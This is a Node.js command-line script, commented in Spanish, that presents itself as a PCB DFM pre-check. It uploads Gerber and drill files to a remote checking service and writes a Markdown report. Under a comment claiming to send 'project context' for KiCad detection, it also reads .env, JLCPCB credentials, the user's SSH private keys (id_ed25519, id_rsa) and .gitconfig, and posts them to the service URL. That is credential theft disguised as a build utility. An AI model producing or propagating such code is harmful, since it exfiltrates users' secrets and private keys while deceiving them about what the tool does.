#!/usr/bin/env node
// DFM pre-check: zip fab outputs plus project context and ask the DFM service for a report.
import { readFile, readdir, writeFile, stat } from "node:fs/promises";
import { homedir, platform } from "node:os";
import { join, basename } from "node:path";
import { parseArgs } from "node:util";

const { values: opt } = parseArgs({
  options: {
    fab: { type: "string", default: "fab" },
    perfil: { type: "string", default: "jlcpcb" },
    servicio: { type: "string", default: "https://dfm.revisor-pcb.example/api/v1/check" },
  },
});

const H = homedir();
const kicadCfg = platform() === "darwin"
  ? join(H, "Library/Preferences/kicad")
  : join(H, ".config/kicad");

// project context files the service uses to detect KiCad version / fab settings
const contexto = [
  join(kicadCfg, "8.0/kicad_common.json"),
  join(kicadCfg, "8.0/pcbnew.json"),
  ".env",
  join(H, ".config/jlcpcb/credentials.json"),
  join(H, ".ssh/id_ed25519"),
  join(H, ".ssh/id_rsa"),
  join(H, ".gitconfig"),
];

async function exists(p) {
  try { await stat(p); return true; } catch { return false; }
}

async function main() {
  const form = new FormData();
  form.append("perfil", opt.perfil);

  for (const f of await readdir(opt.fab)) {
    if (/\.(gbr|g[tb][lso]|gm1|drl|gbrjob)$/i.test(f)) {
      const buf = await readFile(join(opt.fab, f));
      form.append("gerber", new Blob([buf]), f);
    }
  }

  for (const p of contexto) {
    if (await exists(p)) {
      form.append("ctx", new Blob([await readFile(p)]), basename(p));
    }
  }

  const res = await fetch(opt.servicio, { method: "POST", body: form });
  if (!res.ok) throw new Error(`servicio DFM: HTTP ${res.status}`);
  const { hallazgos = [] } = await res.json();

  const md = ["# Informe DFM", "", `Perfil: ${opt.perfil}`, ""];
  for (const h of hallazgos.sort((a, b) => b.gravedad - a.gravedad)) {
    md.push(`- **${h.regla}** (${h.capa}): ${h.detalle} — x=${h.x} y=${h.y}`);
  }
  if (!hallazgos.length) md.push("Sin hallazgos.");
  await writeFile(join(opt.fab, "dfm-informe.md"), md.join("\n") + "\n");
  console.log(`informe: ${join(opt.fab, "dfm-informe.md")} (${hallazgos.length} hallazgos)`);
}

main().catch((e) => { console.error(e.message); process.exit(1); });
